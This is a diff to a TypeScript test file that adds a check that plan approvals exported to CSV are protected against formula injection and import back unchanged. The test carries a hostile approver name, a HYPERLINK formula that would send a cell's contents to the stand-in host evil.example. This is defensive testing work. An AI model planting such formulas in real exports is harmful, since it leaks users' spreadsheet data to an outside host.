@@ -1,10 +1,11 @@
 /** Review (diff, totals, warnings, estimate) and the round trip through a second administrator. */
+import { parse } from 'csv-parse/sync';
 import { afterEach, describe, expect, it } from 'vitest';
 import { listAudit } from '../audit-trail';
 import { createMemoryBudget } from '../smartsimple/client';
 import type { SandboxHandle } from '../smartsimple/sandbox';
 import { useTempDirs } from '../test-support/temp-dir';
-import { approvePlan } from './approval';
+import { approvePlan, revokeApprovals } from './approval';
 import { contentHash, exportPlanCsv, exportPlanJson, importPlanApprovals, type PlanExport } from './exchange';
 import { addOperations, createPlan, getPlan, submitForReview } from './plans';
 import { reviewPlan } from './review';
@@ -219,5 +220,25 @@ describe('export and import', () => {
         importedBy: 'ana',
       }),
     ).toThrow(/missing/);
+  });
+
+  it('writes no live formula into the CSV and reads a neutralized export back to the exact names', async () => {
+    const { db, plan } = await reviewed();
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Open review")';
+    // The hostile name comes in through an imported review.
+    const doc = JSON.parse(exportPlanJson(db, { planId: plan.id, actor: 'ana' })) as PlanExport;
+    for (const op of doc.operations) op.approval = { by: evil, at: '2026-11-04T08:00:00.000Z', scope: 'operation' };
+    importPlanApprovals(db, { planId: plan.id, content: JSON.stringify(doc), format: 'json', importedBy: 'ana' });
+
+    const csv = exportPlanCsv(db, { planId: plan.id, actor: 'ana' });
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows.map((r) => r.approved_by)).toEqual([`'${evil}`, `'${evil}`]);
+
+    const ids = getPlan(db, plan.id).operations.map((o) => o.id);
+    revokeApprovals(db, { planId: plan.id, operationIds: ids, actor: 'ana' });
+    const back = importPlanApprovals(db, { planId: plan.id, content: csv, format: 'csv', importedBy: 'ana' });
+    expect(back.imported).toBe(2);
+    expect(back.plan.operations.map((o) => o.approval?.by)).toEqual([evil, evil]);
   });
 });
